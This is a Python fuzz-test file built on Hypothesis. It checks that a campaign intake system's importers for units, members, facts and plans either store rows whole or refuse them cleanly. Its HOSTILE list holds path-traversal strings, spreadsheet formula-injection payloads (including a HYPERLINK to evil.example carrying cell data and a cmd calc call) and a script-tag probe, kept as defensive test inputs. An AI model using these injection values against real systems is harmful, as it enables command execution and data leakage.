"""Arbitrary rows thrown at every importer (units, members, facts, plans): each file is refused
cleanly, with its file, row and column, or stored whole; never a traceback, never half."""

import datetime as dt
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import Engine, func, select

from campaign.intake.fact_sheet import import_facts
from campaign.intake.member_roster import import_members
from campaign.intake.plan_register import register_plan
from campaign.intake.unit_tree import UNIT_COLUMNS, import_units
from models.campaigns import Campaign
from models.db import transaction
from models.errors import InputError
from models.facts import FACT_COLUMNS, Fact
from models.files import read_sheet
from models.members import Member
from models.units import Unit
from tests.input_files import (
    MEMBER_HEADER,
    TOWN_MEMBERS,
    TOWN_UNITS,
    UNIT_HEADER,
    write_csv,
    write_xlsx,
)

PLANS = Path(__file__).parents[2] / "plans"
FUZZ = settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
HOSTILE = [
    "",
    " ",
    "../../x",
    "/etc/passwd",
    "..",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&B2,"x")',
    "<script>alert(1)</script>",
    "B\x00",
    "Đảng bộ",
    "x" * 300,
    "D" * 65,
    "\t-1",
    "30/02/2023",
    "1/1/99999999999999999999",
    "2023-02-30",
]
CELL = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=12))


@pytest.fixture
def town(engine: Engine, tmp_path: Path) -> Engine:
    """The small town's units and members, and the La Gi plan registered."""
    with transaction(engine) as session:
        import_units(write_csv(tmp_path / "u.csv", UNIT_HEADER, TOWN_UNITS), session=session)
        members = write_csv(tmp_path / "m.csv", MEMBER_HEADER, TOWN_MEMBERS)
        import_members(members, session=session, on=dt.date(2023, 1, 30))
        register_plan(PLANS / "la-gi-2023.yaml", session=session)
    return engine


def _count(engine: Engine, table: type) -> int:
    with transaction(engine) as session:
        return session.scalar(select(func.count()).select_from(table)) or 0


def _clean(exc: InputError, name: str) -> None:
    """A refusal an operator can act on: every line names the file (and its row or key)."""
    assert exc.lines()
    starts = (f"{name}, row ", f"{name}, key ", f"{name}:")
    assert all(line.startswith(starts) for line in exc.lines()), exc.lines()


UNIT_CELLS = st.one_of(st.sampled_from(["LAGI", "G1", "B1", "G9", "branch", "grassroots"]), CELL)


@FUZZ
@given(rows=st.lists(st.lists(UNIT_CELLS, min_size=4, max_size=4), min_size=1, max_size=5))
def test_units_are_stored_whole_or_refused_cleanly(
    town: Engine, tmp_path: Path, rows: list[list[str]]
) -> None:
    path = write_csv(tmp_path / "any.csv", UNIT_HEADER, rows)
    before = _count(town, Unit)
    try:
        with transaction(town) as session:
            summary = import_units(path, session=session)
    except InputError as exc:
        _clean(exc, "any.csv")
        assert _count(town, Unit) == before
        return
    assert _count(town, Unit) == before + summary.created
    with transaction(town) as session:
        names = dict(session.execute(select(Unit.code, Unit.name)).all())
    for code, name, *_ in (r for r in rows if "".join(r).strip()):
        assert names[code.strip()] == name.strip()


MEMBER_CELLS = st.one_of(st.sampled_from(["B1", "G2", "DV1", "yes", "no", "exempt"]), CELL)


@FUZZ
@given(rows=st.lists(st.lists(MEMBER_CELLS, min_size=6, max_size=6), min_size=1, max_size=5))
def test_members_are_stored_whole_or_refused_cleanly(
    town: Engine, tmp_path: Path, rows: list[list[str]]
) -> None:
    # A workbook cannot hold control characters (openpyxl refuses to write them).
    cells = [[ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row] for row in rows]
    path = write_xlsx(tmp_path / "any.xlsx", MEMBER_HEADER, cells)
    before = _count(town, Member)
    try:
        with transaction(town) as session:
            summary = import_members(path, session=session, on=dt.date(2023, 3, 1))
    except InputError as exc:
        _clean(exc, "any.xlsx")
        assert _count(town, Member) == before
        return
    assert _count(town, Member) == before + summary.created


FACT_CELLS = st.one_of(
    st.sampled_from(
        [
            "2023-03-10",
            "10/03/2023",
            "session_held",
            "self_assessment_submitted",
            "screening_step",
            "B1",
            "G1",
            "DV1",
            "educate",
        ]
    ),
    CELL,
)


@FUZZ
@given(rows=st.lists(st.lists(FACT_CELLS, min_size=5, max_size=5), min_size=1, max_size=5))
def test_facts_are_stored_whole_or_refused_cleanly(
    town: Engine, tmp_path: Path, rows: list[list[str]]
) -> None:
    path = write_csv(tmp_path / "any.csv", [c.key for c in FACT_COLUMNS], rows)
    before = _count(town, Fact)
    try:
        with transaction(town) as session:
            summary = import_facts(
                "GTLT-2023-LAGI", path, session=session, actor="fuzz", today=dt.date(2023, 6, 1)
            )
    except InputError as exc:
        _clean(exc, "any.csv")
        assert _count(town, Fact) == before
        return
    assert _count(town, Fact) == before + summary.recorded
    assert summary.recorded + summary.already_recorded == summary.rows


PLAN_VALUES = st.recursive(
    st.one_of(st.sampled_from([*HOSTILE, "LAGI", "2023-02-01", "2023-06-30"]), st.integers()),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
PLAN_KEYS = st.sampled_from(
    ["code", "title", "owner", "issued_on", "period", "reports", "place", "number", "sessions"]
)


@FUZZ
@given(changes=st.dictionaries(PLAN_KEYS, PLAN_VALUES, max_size=4))
def test_plans_are_registered_or_refused_cleanly(
    town: Engine, tmp_path: Path, changes: dict[str, object]
) -> None:
    data = yaml.safe_load((PLANS / "la-gi-2023.yaml").read_text(encoding="utf-8"))
    data.update(changes, code="FUZZ")
    path = tmp_path / "plan.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    before = _count(town, Campaign)
    try:
        with transaction(town) as session:
            register_plan(path, session=session)
    except InputError as exc:
        _clean(exc, "plan.yaml")
        assert _count(town, Campaign) == before
        return
    assert _count(town, Campaign) in (before, before + 1)


@settings(max_examples=200, deadline=None)
@given(content=st.binary(max_size=200))
def test_any_bytes_are_read_or_refused_cleanly(
    tmp_path_factory: pytest.TempPathFactory, content: bytes
) -> None:
    path = tmp_path_factory.mktemp("bytes") / "any.csv"
    path.write_bytes(b"code,name,kind,parent\n" + content)
    try:
        read_sheet(path, UNIT_COLUMNS)
    except InputError as exc:
        _clean(exc, "any.csv")
